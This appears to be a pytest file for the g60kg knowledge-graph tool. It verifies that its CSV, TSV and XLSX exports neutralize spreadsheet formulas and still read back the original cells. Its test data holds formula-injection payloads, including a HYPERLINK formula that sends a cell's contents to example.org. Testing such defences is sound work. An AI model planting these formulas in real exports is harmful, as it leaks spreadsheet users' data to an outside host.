"""Every CSV, TSV and XLSX g60kg writes opens in a spreadsheet with no live formula, and
the review tables read back with the very cells that were written."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pyoxigraph as ox
import pytest
from click.testing import CliRunner

import g60kg
from g60kg.cli import main
from g60kg.news.review import SourceInfo, review_table, write_review
from g60kg.news.extraction import extract
from g60kg.server.worker import evaluate
from g60kg.text.spreadsheet import neutralize, restore

FORMULAS = ["=HYPERLINK(\"http://example.org/?\"&A1,\"点击\")", "+1+1", "-1+2", "@SUM(A1:A2)", "\t=1", "'=already marked"]
LIVE = re.compile(r"[=+\-@\t\r]")
NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
ARTICLE = "星海科技有限公司落户松江。王小明担任星海科技有限公司董事长。"


def _live_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run as formulas."""
    return [cell for row in rows for cell in row if LIVE.match(cell) and not NUMBER.fullmatch(cell)]


@pytest.mark.parametrize("cell", [*FORMULAS, "", "plain", "-3.5", "'", "''+x", "\r=2"])
def test_the_mark_is_undone_exactly(cell: str) -> None:
    assert restore(neutralize(cell)) == cell
    assert not _live_cells([[neutralize(cell)]])


def test_review_tables_hold_no_formula_and_read_back_the_same(tmp_path: Path) -> None:
    title = FORMULAS[0]
    frame = review_table(extract(ARTICLE, link=None), SourceInfo.for_text(ARTICLE, title=title))
    frame.loc[frame["kind"] == "entity", "sentence"] = FORMULAS[3]
    frame.loc[frame["kind"] == "entity", "decision"] = "accept"
    csv_path, xlsx_path = write_review(frame, tmp_path, "a")
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        assert not _live_cells(list(csv.reader(handle)))
    book = openpyxl.load_workbook(xlsx_path)
    assert not [c.coordinate for row in book["review"].iter_rows() for c in row if c.data_type == "f"]
    for path in (csv_path, xlsx_path):
        kg = g60kg.open_graph("memory")
        kg.build([path], bundled=False, validate=False)
        titles = kg.query("SELECT ?t WHERE { ?s a g60:Source ; dcterms:title ?t }")["t"].tolist()
        assert titles == [title], path
        quotes = set(kg.query("SELECT ?q WHERE { ?st g60:quote ?q }")["q"])
        assert quotes == {FORMULAS[3]}, path


@pytest.mark.parametrize("fmt, separator", [("csv", ","), ("tsv", "\t")])
def test_query_output_holds_no_formula(fmt: str, separator: str) -> None:
    values = " ".join(f'("{v.replace(chr(34), chr(92) + chr(34)).replace(chr(9), chr(92) + "t")}")' for v in FORMULAS)
    result = CliRunner().invoke(main, ["query", "--store", "memory", "--format", fmt,
                                       f"SELECT ?v WHERE {{ VALUES (?v) {{ {values} }} }}"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output), delimiter=separator))
    assert not _live_cells(rows)
    assert sorted(restore(row[0]) for row in rows[1:]) == sorted(FORMULAS)


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_endpoint_csv_and_tsv_hold_no_formula_and_json_is_unchanged(fmt: str) -> None:
    store = ox.Store()
    for i, value in enumerate(FORMULAS):
        store.add(ox.Quad(ox.NamedNode(f"http://e/{i}"), ox.NamedNode("http://e/p"), ox.Literal(value)))
    request = {"op": "query", "text": "SELECT ?v WHERE { ?s ?p ?v }", "max_rows": 100}
    _, _, body = evaluate(store, {**request, "formats": {"results": fmt}})
    rows = list(csv.reader(io.StringIO(body.decode("utf-8")), delimiter="," if fmt == "csv" else "\t"))
    assert not _live_cells(rows)  # what a spreadsheet sees
    if fmt == "tsv":
        values = [s["v"].value for s in ox.parse_query_results(body, ox.QueryResultsFormat.TSV)]
    else:
        values = [row[0] for row in rows[1:]]
    assert sorted(map(restore, values)) == sorted(FORMULAS)
    _, _, body = evaluate(store, {**request, "formats": {"results": "json"}})
    assert sorted(s["v"].value for s in ox.parse_query_results(body, ox.QueryResultsFormat.JSON)) == sorted(FORMULAS)
